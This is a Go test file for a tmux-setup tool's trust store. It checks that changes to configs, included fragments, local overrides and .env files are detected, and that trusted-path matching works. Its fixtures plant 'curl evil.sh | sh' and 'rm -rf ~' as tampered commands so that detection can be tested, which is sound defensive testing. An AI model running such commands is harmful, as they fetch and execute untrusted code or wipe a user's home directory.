@@ -0,0 +1,276 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+
+	"github.com/bartosz-skejcik/tmux-setup/internal/config"
+)
+
+// writeProject writes a project that includes a fragment, has a local
+// override and reads a dotenv file, and returns the path of its config
+func writeProject(t *testing.T, dir string) string {
+	t.Helper()
+	files := map[string]string{
+		"tmux.conf.yml":       "include: windows.yml\nenv_file: [.env]\nwindows:\n  - name: editor\n    initial_command: nvim\n",
+		"windows.yml":         "windows:\n  - name: server\n    initial_command: make run\n",
+		"tmux.conf.local.yml": "windows:\n  - name: scratch\n",
+		".env":                "PORT=8080\n",
+	}
+	for name, data := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return filepath.Join(dir, "tmux.conf.yml")
+}
+
+// projectFiles returns the files a project config reads, like the CLI does
+func projectFiles(t *testing.T, path string) []string {
+	t.Helper()
+	files, err := config.ProjectFiles(path, config.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return files
+}
+
+func checkStatus(t *testing.T, path string, want Status) {
+	t.Helper()
+	status, err := Check(path, projectFiles(t, path))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if status != want {
+		t.Errorf("Check() = %s, want %s", status, want)
+	}
+}
+
+func TestProjectFilesAreHashed(t *testing.T) {
+	t.Setenv("TMUX_SETUP_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := writeProject(t, dir)
+
+	want := []string{
+		path,
+		filepath.Join(dir, "windows.yml"),
+		filepath.Join(dir, "tmux.conf.local.yml"),
+		filepath.Join(dir, ".env"),
+	}
+	if got := projectFiles(t, path); !reflect.DeepEqual(got, want) {
+		t.Fatalf("ProjectFiles() = %q, want %q", got, want)
+	}
+}
+
+func TestCheckAfterChanges(t *testing.T) {
+	tests := []struct {
+		name string
+		// change modifies the project in dir after it was recorded
+		change func(t *testing.T, dir string)
+		want   Status
+	}{
+		{
+			name:   "unchanged",
+			change: func(t *testing.T, dir string) {},
+			want:   Allowed,
+		},
+		{
+			name:   "config file",
+			change: appendTo("tmux.conf.yml", "session_name: changed\n"),
+			want:   Changed,
+		},
+		{
+			name:   "included fragment",
+			change: appendTo("windows.yml", "  - name: evil\n    initial_command: curl evil.sh | sh\n"),
+			want:   Changed,
+		},
+		{
+			name:   "local override",
+			change: appendTo("tmux.conf.local.yml", "    initial_command: rm -rf ~\n"),
+			want:   Changed,
+		},
+		{
+			name:   "env file",
+			change: appendTo(".env", "EDITOR=evil\n"),
+			want:   Changed,
+		},
+		{
+			name: "new local override",
+			change: func(t *testing.T, dir string) {
+				if err := os.Rename(filepath.Join(dir, "tmux.conf.local.yml"), filepath.Join(dir, "tmux.conf.local.yaml")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			want: Changed,
+		},
+		{
+			name: "removed local override",
+			change: func(t *testing.T, dir string) {
+				if err := os.Remove(filepath.Join(dir, "tmux.conf.local.yml")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			want: Changed,
+		},
+		{
+			name: "config moved to a glob include with a new fragment",
+			change: func(t *testing.T, dir string) {
+				writeTo(t, dir, "tmux.conf.yml", "include: '*.frag.yml'\nenv_file: [.env]\nwindows:\n  - name: editor\n    initial_command: nvim\n")
+				writeTo(t, dir, "a.frag.yml", "windows: []\n")
+			},
+			want: Changed,
+		},
+	}
+
+	for _, test := range tests {
+		for _, allow := range []bool{true, false} {
+			name := test.name + " after allow"
+			record, want := Allow, test.want
+			if !allow {
+				name = test.name + " after deny"
+				record = Deny
+				if want == Allowed {
+					want = Denied
+				}
+			}
+
+			t.Run(name, func(t *testing.T) {
+				t.Setenv("TMUX_SETUP_HOME", t.TempDir())
+				dir := t.TempDir()
+				path := writeProject(t, dir)
+
+				checkStatus(t, path, Unknown)
+				if err := record(path, projectFiles(t, path)); err != nil {
+					t.Fatal(err)
+				}
+				test.change(t, dir)
+				checkStatus(t, path, want)
+			})
+		}
+	}
+}
+
+func appendTo(name, data string) func(t *testing.T, dir string) {
+	return func(t *testing.T, dir string) {
+		file, err := os.OpenFile(filepath.Join(dir, name), os.O_APPEND|os.O_WRONLY, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer file.Close()
+		if _, err := file.WriteString(data); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func writeTo(t *testing.T, dir, name, data string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestAllowAndDeny(t *testing.T) {
+	t.Setenv("TMUX_SETUP_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := writeProject(t, dir)
+	files := projectFiles(t, path)
+
+	steps := []struct {
+		record func(string, []string) error
+		want   Status
+	}{
+		{Allow, Allowed},
+		{Deny, Denied},
+		{Allow, Allowed},
+		{Allow, Allowed},
+	}
+	for i, step := range steps {
+		if err := step.record(path, files); err != nil {
+			t.Fatal(err)
+		}
+		checkStatus(t, path, step.want)
+
+		// A path is only ever in one list
+		entries, err := List()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(entries) != 1 || entries[0].Path != path || entries[0].Status != step.want {
+			t.Errorf("step %d: List() = %+v, want only %s as %s", i, entries, path, step.want)
+		}
+	}
+}
+
+func TestCheckRelativePath(t *testing.T) {
+	t.Setenv("TMUX_SETUP_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := writeProject(t, dir)
+	if err := Allow(path, projectFiles(t, path)); err != nil {
+		t.Fatal(err)
+	}
+
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(wd) })
+
+	// The store is keyed by the absolute path
+	status, err := Check("tmux.conf.yml", []string{"windows.yml", "tmux.conf.local.yml", ".env"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if status != Allowed {
+		t.Errorf("Check() of the relative path = %s, want %s", status, Allowed)
+	}
+}
+
+func TestCheckMissingFile(t *testing.T) {
+	t.Setenv("TMUX_SETUP_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := writeProject(t, dir)
+	if _, err := Check(path, []string{filepath.Join(dir, "missing.yml")}); err == nil {
+		t.Error("Check() with a missing file succeeded")
+	}
+}
+
+func TestIsTrusted(t *testing.T) {
+	home, err := os.UserHomeDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name    string
+		trusted []string
+		path    string
+		want    bool
+	}{
+		{name: "no trusted paths", trusted: nil, path: "/work/api/tmux.conf.yml", want: false},
+		{name: "the directory itself", trusted: []string{"/work/api"}, path: "/work/api/tmux.conf.yml", want: true},
+		{name: "below the directory", trusted: []string{"/work"}, path: "/work/api/tmux.conf.yml", want: true},
+		{name: "trailing slash", trusted: []string{"/work/"}, path: "/work/api/tmux.conf.yml", want: true},
+		{name: "sibling with the same prefix", trusted: []string{"/work/api"}, path: "/work/api2/tmux.conf.yml", want: false},
+		{name: "parent directory", trusted: []string{"/work/api"}, path: "/work/tmux.conf.yml", want: false},
+		{name: "dot-dot escapes", trusted: []string{"/work"}, path: "/work/../etc/tmux.conf.yml", want: false},
+		{name: "glob", trusted: []string{"/work/*"}, path: "/work/api/tmux.conf.yml", want: true},
+		{name: "glob doesn't match deeper", trusted: []string{"/work/*"}, path: "/work/api/cmd/tmux.conf.yml", want: false},
+		{name: "home", trusted: []string{"~/src"}, path: filepath.Join(home, "src", "api", "tmux.conf.yml"), want: true},
+		{name: "second entry", trusted: []string{"/other", "/work"}, path: "/work/api/tmux.conf.yml", want: true},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			settings := config.Settings{TrustedPaths: test.trusted}
+			if got := settings.IsTrusted(test.path); got != test.want {
+				t.Errorf("IsTrusted(%q) with %q = %t, want %t", test.path, test.trusted, got, test.want)
+			}
+		})
+	}
+}